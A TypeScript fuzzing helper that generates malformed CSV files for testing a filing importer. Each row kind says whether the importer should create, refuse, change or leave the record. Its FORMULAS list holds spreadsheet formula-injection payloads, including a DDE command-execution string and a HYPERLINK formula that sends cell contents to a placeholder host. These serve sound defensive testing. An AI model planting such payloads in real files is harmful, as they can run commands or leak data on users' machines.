/**
 * A CSV file as nobody should send it, made from a seed: bytes that are not UTF-8, formulas, quotes out of order, cells of
 * a megabyte, copies and contradictions of earlier rows. Whoever makes a row also says what must become of it.
 */
import { dice } from './entity-shape.ts';

export type Fate = 'created' | 'refused' | 'changed' | 'unchanged';

export interface FuzzedFile {
  readonly chunks: Generator<Buffer>;
  /** Complete when the chunks are read. */
  readonly expected: Readonly<Record<Fate, number>>;
  /** How many rows of each kind were written. */
  readonly kinds: Readonly<Record<string, number>>;
}

export const FUZZ_COLUMNS = [
  'jurisdiction',
  'registry_number',
  'entity_name',
  'filing_kind',
  'period',
  'due',
  'note',
] as const;

/** What a spreadsheet would run. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1-555-0100',
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
];

const MEGABYTE = 1024 * 1024;
/** Below the limit of a record. */
const LARGE_CELL = 900_000;

interface Kind {
  readonly name: string;
  readonly weight: number;
  readonly fate: Fate;
  /** Only a line that is a row by itself ends such a record: that is the rule of the reader. */
  readonly isBroken?: true;
  readonly bytes: (n: number, roll: number, last: number) => Buffer;
}

const text = (row: string): Buffer => Buffer.from(row, 'utf8');
const raw = (row: string): Buffer => Buffer.from(row, 'latin1');
const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
const formula = (roll: number): string => FORMULAS[Math.floor(roll * FORMULAS.length)] ?? '=1';

function cells(n: number, change: Readonly<Partial<Record<string, string>>> = {}): string {
  const row: Record<string, string> = {
    jurisdiction: 'US-DE',
    registry_number: `R${n}`,
    entity_name: `Fuzz ${n} Inc.`,
    filing_kind: 'annual_report',
    period: '2027',
    due: '2030-03-01',
    note: 'plain',
    ...change,
  };
  return FUZZ_COLUMNS.map((name) => row[name]).join(',');
}

const KINDS: readonly Kind[] = [
  { name: 'plain', weight: 400, fate: 'created', bytes: (n) => text(cells(n)) },
  {
    name: 'quotes and line breaks in order',
    weight: 80,
    fate: 'created',
    bytes: (n) =>
      text(cells(n, { note: quoted('a "b", c\r\nd\n\ne'), entity_name: '"Größe, ÖÜ"' })),
  },
  {
    name: 'formula in a good row',
    weight: 60,
    fate: 'created',
    bytes: (n, roll) => text(cells(n, { note: quoted(formula(roll)) })),
  },
  {
    name: 'formula in a bad row',
    weight: 60,
    fate: 'refused',
    bytes: (n, roll) => text(cells(n, { note: quoted(formula(roll)), due: 'soon' })),
  },
  {
    name: 'copy of an earlier row',
    weight: 40,
    fate: 'unchanged',
    bytes: (_n, _roll, last) => text(cells(last)),
  },
  {
    name: 'contradiction of an earlier row',
    weight: 40,
    fate: 'changed',
    bytes: (_n, roll, last) => text(cells(last, { entity_name: quoted(`Other ${roll}`) })),
  },
  {
    name: 'Latin-1',
    weight: 40,
    fate: 'refused',
    bytes: (n) => raw(cells(n, { entity_name: 'Caf\xe9' })),
  },
  {
    name: 'half a surrogate, overlong, or past the last character',
    weight: 30,
    fate: 'refused',
    bytes: (n, roll) => {
      const wrong = ['\xed\xa0\x80', '\xc0\xaf', '\xf5\x80\x80\x80', '\xff\xfe'];
      return raw(cells(n, { note: wrong[Math.floor(roll * wrong.length)] ?? '\xff' }));
    },
  },
  { name: 'NUL', weight: 20, fate: 'refused', bytes: (n) => text(cells(n, { note: 'a\0b' })) },
  {
    name: 'quote that is never closed',
    isBroken: true,
    weight: 40,
    fate: 'refused',
    bytes: (n) => text(cells(n, { entity_name: '"Open' })),
  },
  {
    name: 'text behind a closing quote',
    isBroken: true,
    weight: 30,
    fate: 'refused',
    bytes: (n) => text(cells(n, { entity_name: '"Shut"ter' })),
  },
  {
    name: 'too few fields',
    weight: 30,
    fate: 'refused',
    bytes: (n) => text(`US-DE,R${n},short`),
  },
  {
    name: 'too many fields',
    weight: 30,
    fate: 'refused',
    bytes: (n) => text(`${cells(n)},one,=2`),
  },
  {
    name: 'unknown jurisdiction',
    weight: 30,
    fate: 'refused',
    bytes: (n) => text(cells(n, { jurisdiction: 'US-ZZ' })),
  },
  {
    name: 'needed column empty',
    weight: 30,
    fate: 'refused',
    bytes: (n) => text(cells(n, { period: '' })),
  },
  {
    name: 'control character in the number',
    weight: 20,
    fate: 'refused',
    bytes: (n) => text(cells(n, { registry_number: `R${n}\u0007x` })),
  },
  {
    name: 'megabyte cell',
    isBroken: true,
    weight: 1,
    fate: 'refused',
    bytes: (n) => text(cells(n, { note: 'm'.repeat(MEGABYTE + 1) })),
  },
  {
    name: 'megabyte cell full of quotes',
    isBroken: true,
    weight: 1,
    fate: 'refused',
    bytes: (n) => text(cells(n, { note: quoted('"'.repeat(MEGABYTE / 2)) })),
  },
  {
    name: 'large cell in a bad row',
    weight: 1,
    fate: 'refused',
    bytes: (n) => text(cells(n, { note: `=${'l'.repeat(LARGE_CELL)}`, due: 'never' })),
  },
];
const WEIGHTS = KINDS.reduce((sum, { weight }) => sum + weight, 0);
const [PLAIN] = KINDS;

/** Rows come with LF or CR LF and with empty lines between them. */
export function fuzzedFile(rows: number, seed: number): FuzzedFile {
  const expected: Record<Fate, number> = { created: 0, refused: 0, changed: 0, unchanged: 0 };
  const kinds: Record<string, number> = {};
  function* chunks(): Generator<Buffer> {
    yield text(`${FUZZ_COLUMNS.join(',')}\n`);
    let last = 0;
    let mustBePlain = true;
    for (let n = 0; n < rows; n += 1) {
      const isLast = n === rows - 1;
      const kind: Kind | undefined =
        (mustBePlain || isLast ? PLAIN : kindAt(dice(seed, n * 2))) ?? KINDS[0];
      if (kind === undefined) return;
      const roll = dice(seed, n * 2 + 1);
      yield kind.bytes(n, roll, last);
      yield text(roll < 0.3 ? '\r\n' : roll > 0.97 ? '\n\n' : '\n');
      if (kind === PLAIN) last = n;
      mustBePlain = kind.isBroken === true;
      expected[kind.fate] += 1;
      kinds[kind.name] = (kinds[kind.name] ?? 0) + 1;
    }
  }
  return { chunks: chunks(), expected, kinds };
}

function kindAt(roll: number): Kind | undefined {
  let left = roll * WEIGHTS;
  return KINDS.find(({ weight }) => {
    left -= weight;
    return left < 0;
  });
}
